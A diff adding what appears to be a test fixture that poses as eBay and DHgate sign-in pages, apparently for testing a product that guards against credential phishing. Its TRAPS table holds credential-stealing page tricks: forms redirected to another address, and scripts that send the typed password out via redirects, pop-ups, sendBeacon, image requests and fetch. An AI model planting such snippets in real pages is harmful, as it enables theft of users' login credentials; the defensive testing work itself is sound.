@@ -1,0 +1,106 @@
+"""Hosts that pose as sign-in pages and record all that they receive, and sign-in pages that lead to them.
+
+``trap`` says what stands in the place of the real sign-in page until it is emptied again: see ``TRAPS``.
+A test's own browser alone can reach names that are no marketplace's (the product maps them nowhere).
+"""
+
+from __future__ import annotations
+
+import html
+from dataclasses import dataclass
+
+from starlette.requests import Request
+from starlette.responses import HTMLResponse, RedirectResponse, Response
+from starlette.types import Receive, Scope, Send
+
+SIGN_IN_HOSTS = ("signin.ebay.com", "secure.dhgate.com")
+OWN_POSERS = ("ebay-signin.dhgate.com",)
+"""A marketplace's own name, which is no sign-in host all the same."""
+
+FORM = """<form id="signin-form" method="post" action="{action}">
+<input id="userid" name="username" placeholder="请输入用户名" value="">
+<input type="password" id="pass" name="password" placeholder="请输入登录密码">
+<button id="sgnBt" class="login-btn">Sign in</button></form><script>const form = document.forms[0]</script>"""
+"""Both marketplaces' fields in one page."""
+AWAY = FORM.replace("{action}", "{to}")
+
+TRAPS = {
+    # the page is not where it should be
+    "moved": "",  # the server redirects: see Posers.__call__
+    "script": "<script>location.replace('{to}')</script>",
+    "frame": "<h1>Sign in</h1><iframe src='{to}' width=600 height=400></iframe>",
+    # the form goes elsewhere
+    "action": AWAY,
+    "base": "<base href='{to}'>" + FORM.replace("{action}", "passport"),
+    "hidden-action": AWAY.replace("<input", "<input name=action type=hidden><input", 1),
+    "button": FORM.replace("<button", "<button formaction='{to}'"),
+    # it changes after the password is typed
+    "action-later": FORM + "<script>pass.oninput = () => {{ form.action = '{to}' }}</script>",
+    "leaves": FORM + "<script>pass.oninput = () => {{ location = '{to}?' + pass.value }}</script>",
+    "asks-again": FORM + "<script>pass.oninput = () => {{ location = '/passport/again' }}</script>",
+    # it changes at the very click
+    "action-at-click": FORM + "<script>form.onsubmit = () => {{ form.action = '{to}' }}</script>",
+    "pop-up": FORM + "<script>sgnBt.onclick = () => {{ window.open('{to}?' + pass.value) }}</script>",
+    "form-in-pop-up": FORM
+    + "<script>form.onsubmit = () => {{ form.target = '_blank'; form.action = '{to}' }}</script>",
+    "beacon": FORM + "<script>sgnBt.onclick = e => {{ e.preventDefault();"
+    " navigator.sendBeacon('{to}', pass.value); new Image().src = '{to}?p=' + encodeURIComponent(pass.value);"
+    " fetch('{to}', {{method: 'POST', mode: 'no-cors', body: btoa(pass.value)}}) }}</script>",
+    # the server sends the form on, with all that is in it
+    "sent-on": FORM,
+    "sent-on-in-pop-up": FORM.replace("<form", "<form target=_blank"),
+}
+
+
+@dataclass(frozen=True, slots=True)
+class Received:
+    """One request that reached a poser."""
+
+    host: str
+    method: str
+    path: str
+    said: str
+    """Query and body."""
+
+
+class Posers:
+    def __init__(self) -> None:
+        self.received: list[Received] = []
+        self.trap = ""
+        self.to = ""
+        self.sprung = 0
+        """How often the sign-in page was asked for while the trap stood there."""
+
+    def set(self, trap: str, to: str) -> None:
+        """Put a trap in the place of the sign-in page, leading to this address; '' takes it away."""
+        self.trap, self.to, self.sprung = trap, to, 0
+        self.received.clear()
+
+    def take(self, host: str, path: str) -> bool:
+        """Whether a request to a marketplace's host is ours."""
+        return host in OWN_POSERS or bool(self.trap and host in SIGN_IN_HOSTS and "favicon" not in path)
+
+    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
+        request = Request(scope, receive)
+        host = request.headers.get("host", "").split(":")[0].lower()
+        answer = await (self._at_home(request) if host in SIGN_IN_HOSTS else self._posing(request, host))
+        await answer(scope, receive, send)
+
+    async def _posing(self, request: Request, host: str) -> Response:
+        body = (await request.body()).decode(errors="replace")
+        said = f"{request.url.query}\n{body}"
+        self.received.append(Received(host, request.method, request.url.path, said))
+        return HTMLResponse(f"<!doctype html><title>Sign in</title>{FORM.format(action='')}")
+
+    async def _at_home(self, request: Request) -> Response:
+        """The sign-in host itself, with the trap on its page."""
+        if request.method == "POST" or self.trap == "moved":
+            self.sprung += 1
+            return RedirectResponse(self.to, 307 if request.method == "POST" else 302)
+        if request.url.path == "/passport/again":
+            return HTMLResponse(
+                f"<!doctype html><title>Sign in</title>{FORM.format(action=html.escape(self.to))}"
+            )
+        self.sprung += 1
+        page = TRAPS[self.trap].format(to=html.escape(self.to), action="/passport/sent-on")
+        return HTMLResponse(f"<!doctype html><title>Sign in</title>{page}")
